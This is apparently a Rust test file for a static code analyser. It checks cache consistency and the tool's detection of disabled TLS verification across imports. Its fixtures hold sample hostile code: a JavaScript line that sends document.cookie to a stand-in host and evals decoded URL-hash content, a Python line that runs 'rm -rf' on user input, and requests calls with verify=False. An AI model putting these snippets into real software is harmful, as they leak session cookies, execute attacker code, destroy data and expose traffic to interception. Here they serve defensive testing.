//! With what an earlier run kept, and without: the same words.

use crate::stage::{Memory, Pair, change, judge, judge_with};
use tares_effects::models::ModelSet;
use tares_judge::Options;

const HELPER: &str =
    "import requests\n\ndef get(url, **more):\n    return requests.get(url, timeout=5, **more)\n";
const SAFE_HELPER: &str = "def get(url, **more):\n    return None\n";
const USER: &str = "from helper import get\n\ndef run():\n    # tares: allow tls-check-off -- a reason\n    return get('https://api.example/x', verify=False)\n";
const JS: &str = "const { get } = require('./net');\nget('http://x.example/' + document.cookie);\neval(atob(location.hash));\n";
const BROKEN: &str = "def f(:\n  x = [1, 2\nimport os; os.system('rm -rf ' + input())\n";

fn files() -> Vec<Pair<'static>> {
    vec![
        ("user.py", Some("import os\n"), Some(USER)),
        ("web/app.js", None, Some(JS)),
        ("broken.py", Some("x = 1\n"), Some(BROKEN)),
        ("same.py", Some(HELPER), Some(HELPER)),
        ("gone.py", Some(HELPER), None),
    ]
}

#[test]
fn the_second_run_recalls_and_says_the_same() {
    let others = [
        ("helper.py", HELPER),
        ("web/net.js", "exports.get = (u) => fetch(u);\n"),
    ];
    let plain = judge(&change(&files()), &Memory::of(&others));
    let memory = Memory::of(&others).keeping();
    let first = judge(&change(&files()), &memory);
    assert_eq!(first.words, plain.words);
    memory.hits();
    let second = judge(&change(&files()), &memory);
    assert_eq!(second.words, plain.words);
    assert!(
        memory.hits() >= files().len(),
        "both sides of every file are recalled"
    );
    assert!(plain.has("tls-check-off"));
}

#[test]
fn another_set_of_models_is_noticed() {
    let own = |effect: &str| {
        let text = format!(
            "library = 'acme'\n[[call]]\npath = ['acme.fetch']\neffect = '{effect}'\n\
             roles = {{ url = '0', verify = 'verify' }}\n"
        );
        let files = [("python/acme.toml".to_owned(), text.into_bytes())];
        let models = ModelSet::extended("own", &files).unwrap();
        Options {
            models,
            ..Options::default()
        }
    };
    let code = "import acme\nacme.fetch('https://api.example/x', verify=False)\n";
    let pairs = change(&[("a.py", Some(""), Some(code))]);
    let memory = Memory::default().keeping();
    let (plain, network, log) = (Options::default(), own("network"), own("log"));
    for (options, is_found) in [(&plain, false), (&network, true), (&log, false)] {
        let first = judge_with(&pairs, &memory, options);
        memory.hits();
        assert_eq!(first.has("tls-check-off"), is_found);
        let again = judge_with(&pairs, &memory, options);
        assert!(memory.hits() > 0, "the same set recalls");
        assert_eq!(first.words, again.words);
    }
    let again = own("network");
    assert_eq!(again.models.identity(), network.models.identity());
}

#[test]
fn a_changed_import_is_noticed() {
    let mut memory = Memory::of(&[("helper.py", HELPER)]).keeping();
    let user = change(&[("user.py", Some(""), Some(USER))]);
    assert!(judge(&user, &memory).has("tls-check-off"));
    memory
        .files
        .insert("helper.py".to_owned(), SAFE_HELPER.to_owned());
    assert!(!judge(&user, &memory).has("tls-check-off"));
    memory.files.remove("helper.py");
    assert!(!judge(&user, &memory).has("tls-check-off"));
    // A file that appears where an import led nowhere is noticed too.
    memory
        .files
        .insert("helper.py".to_owned(), HELPER.to_owned());
    assert!(judge(&user, &memory).has("tls-check-off"));
}

#[test]
fn the_place_of_a_file_counts_where_imports_do() {
    let memory = Memory::of(&[("one/helper.py", HELPER), ("two/helper.py", SAFE_HELPER)]).keeping();
    for _ in 0..2 {
        assert!(
            judge(&change(&[("one/user.py", Some(""), Some(USER))]), &memory).has("tls-check-off")
        );
        assert!(
            !judge(&change(&[("two/user.py", Some(""), Some(USER))]), &memory).has("tls-check-off")
        );
    }
}

#[test]
fn what_is_damaged_is_computed_again() {
    let memory = Memory::of(&[("helper.py", HELPER)]).keeping();
    let user = change(&[("user.py", Some(""), Some(USER))]);
    let first = judge(&user, &memory);
    for value in memory.kept.lock().unwrap().values_mut() {
        value.truncate(value.len() / 2);
    }
    assert_eq!(judge(&user, &memory).words, first.words);
}
